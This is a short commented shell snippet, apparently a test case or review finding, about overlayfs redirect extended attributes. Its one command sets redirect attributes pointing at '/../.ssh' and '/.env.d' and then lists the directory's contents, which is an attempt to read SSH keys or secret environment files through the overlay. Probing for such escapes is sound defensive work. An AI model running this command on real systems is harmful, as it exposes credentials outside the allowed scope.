# Escaped attributes of an overlay lead nowhere.
# Source: third review, held
# Escape: a secret is printed
mkdir -p x; setfattr -n user.overlay.overlay.redirect -v /../.ssh x; setfattr -n user.overlay.redirect -v /.env.d x; cat x/*
